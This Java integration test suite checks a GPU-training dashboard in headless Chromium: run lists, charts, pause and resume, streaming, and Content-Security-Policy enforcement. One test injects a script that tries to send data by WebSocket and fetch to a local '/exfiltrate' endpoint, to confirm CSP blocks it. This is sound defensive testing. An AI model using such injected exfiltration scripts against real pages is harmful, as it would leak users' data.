package io.jenkins.plugins.gputraining.agent.dashboard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.jenkins.plugins.gputraining.agent.dashboard.pages.Chart;
import io.jenkins.plugins.gputraining.agent.dashboard.pages.ComparePage;
import io.jenkins.plugins.gputraining.agent.dashboard.pages.ComparePage.WinningCell;
import io.jenkins.plugins.gputraining.agent.dashboard.pages.Console;
import io.jenkins.plugins.gputraining.agent.dashboard.pages.Dashboard;
import io.jenkins.plugins.gputraining.agent.dashboard.pages.RunChart;
import io.jenkins.plugins.gputraining.agent.dashboard.pages.RunPage;
import io.jenkins.plugins.gputraining.agent.dashboard.pages.RunsPage;
import io.jenkins.plugins.gputraining.agent.dashboard.pages.SummaryPage;
import io.jenkins.plugins.gputraining.agent.server.ApiTokens;
import io.jenkins.plugins.gputraining.agent.server.ServerConfig;
import io.jenkins.plugins.gputraining.agent.server.TrainingServer;
import io.jenkins.plugins.gputraining.model.fixtures.LiveRunFixture;
import io.jenkins.plugins.gputraining.model.progress.RunDirectory;
import io.jenkins.plugins.gputraining.model.progress.RunStatus;
import io.jenkins.plugins.gputraining.runner.AgentProcess;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * The dashboard in headless Chromium against the agent's HTTP service, started in-process on a runs directory of
 * real run directories (and one real training the agent runs as a child process). One browser and one service for
 * all tests; each test opens its pages afresh. The pages are driven through page objects (the {@code pages} package):
 * what a user sees and does.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class DashboardBrowserIT {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String TOKEN = "dashboard-test-token";

    /** Three finished runs, one per efficiency band, with distinct final losses. */
    private static final List<DashboardRuns.Spec> RUNS = List.of(
            new DashboardRuns.Spec("baseline", "Baseline lr=1e-3", 90, 0.41, 97, 4, 1, true),
            new DashboardRuns.Spec("lr-high", "High LR <b>5e-3</b> & \"warmup\"", 60, 0.35, 78, 60, 2, false),
            new DashboardRuns.Spec("small-batch", "Small batch", 30, 0.90, 35, 150, 1, false));

    @TempDir
    static Path work;

    private Path runs;
    private TrainingServer server;
    private Browser browser;
    private Dashboard dashboard;
    private String base;
    private final HttpClient http = HttpClient.newHttpClient();

    @BeforeAll
    void start() throws Exception {
        runs = work.resolve("runs");
        Files.createDirectories(runs);
        for (DashboardRuns.Spec spec : RUNS) {
            DashboardRuns.write(runs, spec);
        }
        server = TrainingServer.start(ServerConfig.builder(runs).port(0)
                .tokens(ApiTokens.parse("dashboard-tester:" + TOKEN, "test tokens")).build());
        base = "http://127.0.0.1:" + server.port();
        browser = Browser.start();
        dashboard = new Dashboard(browser, base);
    }

    @AfterAll
    void stop() {
        if (browser != null) {
            browser.close();
        }
        if (server != null) {
            server.close();
        }
    }

    @Test
    void runsListShowsTheRunsWithStatusAndEfficiencyBadgeColouredByScoreBand() throws Exception {
        RunsPage list = dashboard.runs().awaitRows(RUNS.size());

        List<String> bands = new ArrayList<>();
        for (DashboardRuns.Spec spec : RUNS) {
            RunsPage.Row row = list.row(spec.id());
            assertThat(row.name()).as("the name is shown as text, not markup").isEqualTo(spec.name());
            assertThat(row.link()).endsWith("#/run/" + spec.id());
            assertThat(row.status().text()).isEqualToIgnoringCase("completed");
            assertThat(row.status().classes()).contains("status-completed");

            double score = getJson("/api/training/" + spec.id() + "/analytics").at("/efficiency/overall_score").asDouble();
            String band = score > 90 ? "green" : score > 70 ? "yellow" : "red";
            bands.add(band);
            assertThat(row.efficiency().classes()).as("badge of %s (score %s)", spec.id(), score)
                    .contains("badge-" + band);
            assertThat(row.efficiency().text()).isEqualTo(String.format("%.1f%% efficient", score));
        }
        assertThat(bands).as("the fixtures cover every band").containsExactly("green", "yellow", "red");
        List<String> ids = RUNS.stream().map(DashboardRuns.Spec::id).toList();
        assertThat(list.rows()).extracting(RunsPage.Row::id).filteredOn(ids::contains).as("newest first")
                .containsExactly("small-batch", "lr-high", "baseline");

        // Compare selected: two ticks enable the button, which opens the compare page with both ids.
        assertThat(list.canCompare()).isFalse();
        assertThat(list.selectionInfo()).isEqualTo("Select two or more runs to compare");
        list.select("baseline").select("lr-high");
        assertThat(list.canCompare()).isTrue();
        assertThat(list.selectionInfo()).isEqualTo("2 selected");
        browser.fullPageScreenshot("runs");
        assertCleanConsole("runs");
        ComparePage compare = list.compareSelected();
        assertThat(dashboard.route()).isEqualTo("/compare?ids=baseline,lr-high");
        assertThat(compare.rows()).containsExactlyInAnyOrder("baseline", "lr-high");
        assertCleanConsole("compare");
    }

    @Test
    void runPageRendersNonEmptyChartsCardsCheckpointsAndDownloads() throws Exception {
        RunPage run = dashboard.run("baseline");
        for (RunChart chart : RunChart.values()) {
            run.awaitChart(chart, 1, 15);
            Chart.Drawn drawn = run.chart(chart).drawn();
            assertThat(drawn.canvases()).as(chart + " canvas").isPositive();
            assertThat(drawn.series().get(0).connectNulls()).as(chart + " leaves gaps").isFalse();
        }
        assertThat(run.lossChartPoints()).isEqualTo(DashboardRuns.STEPS);

        assertThat(run.status()).isEqualToIgnoringCase("completed");
        assertThat(run.documentTitle()).isEqualTo("Baseline lr=1e-3 \u00b7 GPU Training");
        assertThat(run.canPause()).as("a finished run cannot be paused").isFalse();
        assertThat(run.canResume()).isFalse();
        assertThat(run.canCancel()).isFalse();
        run.awaitCards();
        assertThat(run.card("loss").value()).isEqualTo("0.41");
        assertThat(run.card("throughput").value()).contains("samples/s");
        assertThat(run.card("gpu-util").value()).endsWith("%");
        assertThat(run.efficiencyBadge().classes()).contains("badge-green");
        assertThat(run.telemetryNoticeShown()).isFalse();
        assertThat(run.gpuInventory()).startsWith("GPU 0: ");

        assertThat(run.checkpointLinks()).containsExactly(
                base + "/api/training/baseline/download/checkpoint/checkpoint-600");
        assertThat(run.downloadLinks()).contains(base + "/api/training/baseline/download/metrics.jsonl",
                base + "/api/training/baseline/download/telemetry.jsonl",
                base + "/api/training/baseline/download/output.log");
        HttpResponse<String> log = http.send(HttpRequest.newBuilder(URI.create(base
                + "/api/training/baseline/download/output.log")).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(log.body()).contains("training Baseline");
        HttpResponse<byte[]> weights = http.send(HttpRequest.newBuilder(URI.create(run.checkpointLinks().get(0)))
                .build(), HttpResponse.BodyHandlers.ofByteArray());
        assertThat(weights.statusCode()).as("checkpoint download").isEqualTo(200);

        browser.fullPageScreenshot("run");
        assertCleanConsole("run");

        // Two GPUs: one series per GPU.
        RunPage twoGpus = dashboard.run("lr-high").awaitChart(RunChart.GPU_UTILISATION, 2, 15);
        assertThat(twoGpus.title()).isEqualTo("High LR <b>5e-3</b> & \"warmup\"");
        assertThat(twoGpus.gpuInventory()).contains("GPU 0: ", "GPU 1: ");
        assertCleanConsole("run (two GPUs)");
    }

    @Test
    void pressingPausePausesARealTrainingAndResumeContinuesIt() throws Exception {
        Path script = work.resolve("train.sh");
        Files.writeString(script, """
                #!/bin/sh
                i=0
                while [ $i -lt 3000 ]; do
                  i=$((i+1))
                  echo "{\\"step\\": $i, \\"loss\\": $(awk "BEGIN{print 3/($i+1)}"), \\"samples\\": $((i*32))}"
                  sleep 0.1
                done
                """);
        Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-xr-x"));
        AgentProcess agent = AgentProcess.start(work, "run", "--out", runs.resolve("live").toString(),
                "--name", "live <i>job</i>", "--", "./train.sh");
        RunDirectory live = RunDirectory.at(runs.resolve("live"));
        try {
            browser.await(30, "the training to run", driver -> status(live) == RunStatus.RUNNING);
            RunPage run = dashboard.run("live").awaitStatus("running", 15);
            assertThat(run.title()).isEqualTo("live <i>job</i>");
            run.awaitChart(RunChart.LOSS, 1, 20);
            // The page follows the run over the WebSocket stream: points arrive without a reload or polling.
            run.awaitLive("live", 10);
            long before = run.lossChartPoints();
            run.await(15, "streamed loss points", () -> run.lossChartPoints() >= before + 5);
            JsonNode progress = getJson("/api/training/live");
            if (!progress.at("/telemetry/available").asBoolean()) {
                assertThat(run.telemetryNotice()).contains(progress.at("/telemetry/reason").asText());
            }
            assertThat(run.canResume()).isFalse();

            // Without the token the service refuses, and the page says why.
            run.clearToken().pause();
            RunPage.ActionResult refused = run.awaitActionResult("error");
            assertThat(refused.text()).startsWith("Pause failed: ");
            assertThat(refused.ariaLive()).isEqualTo("polite");
            assertThat(status(live)).isEqualTo(RunStatus.RUNNING);

            run.enterToken(TOKEN).pause("suspend").awaitStatus("paused", 20);
            assertThat(status(live)).as("progress.json").isEqualTo(RunStatus.PAUSED);
            run.awaitActionResultStartingWith("Paused");
            assertThat(run.canPause()).isFalse();
            assertThat(run.canResume()).isTrue();
            assertThat(dashboard.storedToken()).isEqualTo(TOKEN);
            browser.fullPageScreenshot("run-paused");

            run.resume().awaitStatus("running", 20);
            assertThat(status(live)).as("progress.json").isEqualTo(RunStatus.RUNNING);
            run.awaitActionResultStartingWith("Resumed");

            run.cancel().awaitStatus("cancelled", 30);
            assertThat(status(live)).isEqualTo(RunStatus.CANCELLED);
            assertCleanConsole("run (live)", "401");
        }
        finally {
            if (status(live) != RunStatus.CANCELLED) {
                agent.terminate();
            }
            agent.waitFor();
        }
    }

    @Test
    void theRunPageAppendsStreamedMetricsAndTelemetryOnTheServersTimeAxis() throws Exception {
        try (LiveRunFixture live = LiveRunFixture.start(runs, "streamed", "Streamed run", true)) {
            RunPage run = dashboard.run("streamed").awaitLive("live", 15)
                    .awaitChart(RunChart.GPU_POWER, 1, 15);
            Chart power = run.chart(RunChart.GPU_POWER);
            long lossBefore = run.lossChartPoints();
            long powerBefore = power.points();
            run.await(10, "streamed points",
                    () -> run.lossChartPoints() >= lossBefore + 5 && power.points() >= powerBefore + 5);
            live.finish();
            // The x of a streamed sample is its active elapsed time, as the service's gpu-series computes it.
            double streamedLast = power.lastX();
            JsonNode served = getJson("/api/training/streamed/gpu-series?metric=power_watts&points=10000")
                    .at("/series/0/points");
            double servedLast = served.get(served.size() - 1).get(0).asDouble();
            assertThat(streamedLast).isCloseTo(servedLast, within(1.0));
            run.awaitStatus("completed", 15).awaitLive("ended", 5);
            assertCleanConsole("run (streamed)");
        }
    }

    @Test
    void withoutTheStreamTheRunPageFallsBackToPollingEveryThreeSeconds() throws Exception {
        try (LiveRunFixture live = LiveRunFixture.start(runs, "polled", "Polled run", false)) {
            try (AutoCloseable noStream = dashboard.breakWebSockets()) {
                RunPage run = dashboard.run("polled").awaitLive("polling", 15)
                        .awaitChart(RunChart.LOSS, 1, 15);
                long before = run.lossChartPoints();
                run.await(10, "points from a poll", () -> run.lossChartPoints() > before);
                assertThat(run.status()).isEqualToIgnoringCase("running");
                assertThat(run.liveState()).as("polling goes on while the run runs").isEqualTo("polling");
                live.finish();
                run.awaitStatus("completed", 10).awaitLive("ended", 5);
            }
            assertCleanConsole("run (polling)", "WebSocket connection to");
        }
    }

    @Test
    void comparePageMarksTheWinnersAndOverlaysTheLossCurves() throws Exception {
        ComparePage compare = dashboard.compare().awaitPicker(RUNS.size());
        assertThat(compare.pickable()).contains("baseline", "lr-high", "small-batch");
        assertThat(compare.asksForTwoRuns()).isTrue();
        for (DashboardRuns.Spec spec : RUNS) {
            compare.pick(spec.id());
        }
        compare.awaitRows(RUNS.size());
        assertThat(dashboard.route()).isEqualTo("/compare?ids=baseline,lr-high,small-batch");
        assertThat(compare.asksForTwoRuns()).isFalse();
        assertThat(compare.pickerHint()).startsWith("3 of ");

        JsonNode comparison = getJson("/api/training/analytics/compare?job_ids=baseline,lr-high,small-batch");
        String lowestFinalLoss = RUNS.stream().min(Comparator.comparingDouble(DashboardRuns.Spec::finalLoss))
                .orElseThrow().id();
        assertThat(comparison.at("/winner/best_loss").asText()).isEqualTo(lowestFinalLoss);

        List<WinningCell> bestLoss = compare.winningCells("best_loss");
        assertThat(bestLoss).hasSize(1);
        WinningCell cell = bestLoss.get(0);
        assertThat(cell.text()).startsWith("\u2605").contains("0.35");
        assertThat(cell.column()).isEqualTo("final_loss");
        assertThat(cell.jobId()).isEqualTo(lowestFinalLoss);

        // Every category's winner is marked in its row, and nowhere else.
        Map<String, String> columns = Map.of("best_throughput", "throughput", "fastest", "duration_seconds",
                "most_efficient", "overall_score", "best_loss", "final_loss");
        Map<String, String> winners = compare.winners();
        for (Map.Entry<String, String> category : columns.entrySet()) {
            String expected = comparison.at("/winner/" + category.getKey()).asText();
            List<WinningCell> marked = compare.winningCells(category.getKey());
            assertThat(marked).as(category.getKey()).hasSize(1);
            assertThat(marked.get(0).jobId()).as(category.getKey()).isEqualTo(expected);
            assertThat(marked.get(0).column()).isEqualTo(category.getValue());
            assertThat(winners.get(category.getKey())).as("winner card " + category.getKey()).isEqualTo(expected);
        }
        assertThat(compare.winningCells()).hasSize(4).allSatisfy(winner ->
                assertThat(winner.marks()).as("winner marks in %s", winner).isEqualTo(1));

        compare.awaitCurves(3);
        assertThat(compare.lossCurves().series()).extracting(Chart.Series::name)
                .containsExactlyInAnyOrder(RUNS.stream().map(DashboardRuns.Spec::name).toArray(String[]::new));
        browser.fullPageScreenshot("compare");
        assertCleanConsole("compare");

        // Unticking one goes back to two runs.
        compare.unpick("small-batch").awaitRows(2);
        compare.await(15, "two loss curves", () -> compare.lossCurves().series().size() == 2);
        assertThat(dashboard.route()).isEqualTo("/compare?ids=baseline,lr-high");
        assertCleanConsole("compare (two runs)");
    }

    @Test
    void summaryPageShowsTotalsStatusesTopRunsAndTrend() throws Exception {
        SummaryPage summaryPage = dashboard.summary().awaitFigures();
        JsonNode summary = getJson("/api/training/analytics/summary");
        assertThat(summaryPage.totalRuns()).isEqualTo(summary.get("total_jobs").asText());
        assertThat(summaryPage.statusCount("completed")).isEqualTo(summary.at("/jobs_by_status/completed").asText());
        List<String> expected = new ArrayList<>();
        summary.get("top_performing_jobs").forEach(job -> expected.add(job.get("job_id").asText()));
        // Other tests add runs to the same folder, so which runs rank highest depends on the order tests run in.
        assertThat(summaryPage.topRuns()).isEqualTo(expected).hasSizeBetween(3, 5);
        summaryPage.await(15, "the trend chart", () -> summaryPage.trendChart().hasData(3));
        browser.fullPageScreenshot("summary");
        assertCleanConsole("summary");
    }

    @Test
    void pagesRaiseNoCspViolationsAndTheCheckCatchesOne() throws Exception {
        HttpResponse<String> index = http.send(HttpRequest.newBuilder(URI.create(base + "/")).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(index.headers().firstValue("Content-Security-Policy")).get().asString()
                .contains("script-src 'self'").contains("style-src 'self'").doesNotContain("unsafe-inline");
        assertThat(index.body()).doesNotContain("<style", "style=", "onclick", "javascript:")
                .doesNotContainPattern("<script(?![^>]*\\bsrc=)");

        // Each page once it has loaded its data and drawn it.
        dashboard.runs().awaitLoaded().awaitRows(RUNS.size());
        assertCleanConsole("/");
        dashboard.run("baseline").awaitLoaded().awaitChart(RunChart.LOSS, 1, 15);
        assertCleanConsole("/run/baseline");
        dashboard.summary().awaitLoaded();
        assertCleanConsole("/summary");
        dashboard.compare("baseline", "lr-high", "small-batch").awaitLoaded(3);
        assertCleanConsole("/compare?ids=baseline,lr-high,small-batch");
        assertThat(dashboard.missing("/nowhere").awaitLoaded().heading()).isEqualTo("Page not found");
        assertCleanConsole("/nowhere");

        // A run that does not exist: the page says so (the 404 answers are the only console errors).
        RunPage missing = dashboard.run("no-such-run").awaitError();
        assertThat(missing.error()).isEqualTo("No run with id no-such-run.");
        assertCleanConsole("/run/no-such-run", "404");

        // The check sees violations: markup with an inline style is refused and reported.
        dashboard.injectMarkupWithInlineStyle();
        assertThat(dashboard.consoleWithCspViolationWithin(5).cspViolations()).isNotEmpty();
    }

    @Test
    void aPageCannotConnectToAnotherOriginNotEvenByWebSocket() throws Exception {
        // The policy's connect-src once allowed "ws: wss:", any host: an injected script could have streamed data
        // out. 'self' lets the dashboard reach its own origin only (its own stream included, see the live tests).
        try (java.net.ServerSocket elsewhere = new java.net.ServerSocket(0, 50,
                java.net.InetAddress.getLoopbackAddress())) {
            elsewhere.setSoTimeout(3000);
            dashboard.runs().awaitLoaded();
            dashboard.console();
            browser.script("const port = arguments[0];"
                    + "try { new WebSocket('ws://127.0.0.1:' + port + '/exfiltrate'); } catch (e) { }"
                    + "fetch('http://127.0.0.1:' + port + '/exfiltrate').catch(() => {});", elsewhere.getLocalPort());

            org.assertj.core.api.Assertions.assertThatThrownBy(elsewhere::accept)
                    .as("nothing reached the other origin").isInstanceOf(java.net.SocketTimeoutException.class);
            assertThat(dashboard.consoleWithCspViolationWithin(5).cspViolations()).as("the browser refused it")
                    .isNotEmpty();
        }
    }

    /** Asserts the browser console has no CSP violation and no error, except entries matching an allowed pattern. */
    private void assertCleanConsole(final String page, final String... allowed) {
        Console console = dashboard.console();
        assertThat(console.cspViolations()).as("CSP violations on the %s page", page).isEmpty();
        assertThat(console.errorsExcept(allowed)).as("console errors on the %s page", page).isEmpty();
    }

    private JsonNode getJson(final String path) throws IOException, InterruptedException {
        HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create(base + path)).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode()).as("GET %s: %s", path, response.body()).isEqualTo(200);
        return JSON.readTree(response.body());
    }

    private static RunStatus status(final RunDirectory run) {
        try {
            return run.readProgress().status();
        }
        catch (RuntimeException e) {
            return null;
        }
    }
}
